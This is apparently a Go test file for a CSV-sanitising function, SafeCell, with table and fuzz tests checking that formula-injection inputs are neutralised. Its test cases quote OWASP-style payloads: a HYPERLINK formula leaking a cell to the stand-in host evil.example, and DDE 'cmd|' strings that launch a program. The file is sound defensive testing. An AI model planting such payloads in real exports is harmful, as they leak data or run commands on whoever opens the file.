package interchange_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/voicemap/voicemap/interchange"
)

// TestSafeCell checks SafeCell on the payloads of OWASP's "CSV Injection"
// page (=HYPERLINK, DDE through cmd|, @SUM, a leading minus or plus) and on
// the cases it must leave alone.
func TestSafeCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, in, want string }{
		{"hyperlink", `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`},
		{"dde plus", `+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"dde minus", `-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"at sum", `@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"leading space", "  =1+1", "'  =1+1"},
		{"leading line break", "\n@x", "'\n@x"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width at after space", " ＠SUM(A1)", "' ＠SUM(A1)"},
		{"lone minus", "-", "'-"},
		{"minus then text", "-Ann", "'-Ann"},
		{"negative number", "-0.5", "-0.5"},
		{"positive number with sign", "+3", "+3"},
		{"exponent", "-1.5e-07", "-1.5e-07"},
		{"leading point", "-.5", "-.5"},
		{"number then formula", "-0.5+cmd|x!A1", "'-0.5+cmd|x!A1"},
		{"hex is not a number", "-0x10", "'-0x10"},
		{"plain name", "Ann Smith", "Ann Smith"},
		{"equals inside", "a=b", "a=b"},
		{"empty", "", ""},
		{"apostrophe already", "'=x", "'=x"},
		{"NUL", "Ann\x00Smith", "Ann\uFFFDSmith"},
		{"escape sequence", "\x1b[31mred", "\uFFFD[31mred"},
		{"NUL then formula", "\x00=1", "\uFFFD=1"},
		{"invalid UTF-8", "a\xffb", "a\uFFFDb"},
		{"kept line break", "two\nlines", "two\nlines"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := interchange.SafeCell(tt.in); got != tt.want {
				t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// FuzzSafeCell checks SafeCell's properties on any string: the result is
// valid UTF-8 without NUL or other control characters but tab, LF and CR;
// it starts with no formula character unless it is a plain number or
// quoted; SafeCell is idempotent; and a row written by CSVWriter reads
// back, with encoding/csv, as the SafeCell of each cell.
func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"=1+1", "-0.5", "+cmd|' /C calc'!A0", "@x", "\t=1", "Ann", "", "\x00", "＝1", " -1", "\"=\"", "-1e5", "a,b\n\"c\""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := interchange.SafeCell(s)
		if !utf8.ValidString(got) {
			t.Fatalf("SafeCell(%q) = %q, not valid UTF-8", s, got)
		}
		for _, r := range got {
			if r < 0x20 && r != '\t' && r != '\n' && r != '\r' || r == 0x7f || (r >= 0x80 && r < 0xa0) {
				t.Fatalf("SafeCell(%q) = %q holds control character %U", s, got, r)
			}
		}
		if got != "" && got[0] != '\'' {
			trimmed := strings.TrimLeft(got, " \n\r\t")
			if strings.ContainsAny(got[:1], "=+-@\t\r") || (trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@")) ||
				strings.HasPrefix(trimmed, "＝") || strings.HasPrefix(trimmed, "＋") || strings.HasPrefix(trimmed, "－") || strings.HasPrefix(trimmed, "＠") {
				if !isNumber(got) {
					t.Fatalf("SafeCell(%q) = %q starts a formula", s, got)
				}
			}
		}
		if again := interchange.SafeCell(got); again != got {
			t.Fatalf("SafeCell is not idempotent: %q -> %q -> %q", s, got, again)
		}
		var b bytes.Buffer
		w := interchange.NewCSVWriter(&b)
		if err := w.Write([]string{s, "x"}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if bytes.IndexByte(b.Bytes(), 0) >= 0 {
			t.Fatalf("CSVWriter wrote a NUL for %q", s)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("CSV of %q reads back as %q, %v", s, rows, err)
		}
		// encoding/csv reads \r\n inside a quoted field as \n.
		if want := strings.ReplaceAll(got, "\r\n", "\n"); rows[0][0] != want {
			t.Fatalf("CSV of %q reads back as %q, want %q", s, rows[0][0], want)
		}
	})
}

// isNumber is the plain decimal number SafeCell leaves alone, checked by
// hand rather than with SafeCell's own expression.
func isNumber(s string) bool {
	if s != "" && (s[0] == '+' || s[0] == '-') {
		s = s[1:]
	}
	mant, exp, hasExp := strings.Cut(strings.ToLower(s), "e")
	if hasExp {
		if exp != "" && (exp[0] == '+' || exp[0] == '-') {
			exp = exp[1:]
		}
		if !digits(exp) {
			return false
		}
	}
	whole, frac, hasPoint := strings.Cut(mant, ".")
	if !hasPoint {
		return digits(whole)
	}
	return (digits(whole) && (frac == "" || digits(frac))) || (whole == "" && digits(frac))
}

func digits(s string) bool {
	return s != "" && strings.Trim(s, "0123456789") == ""
}
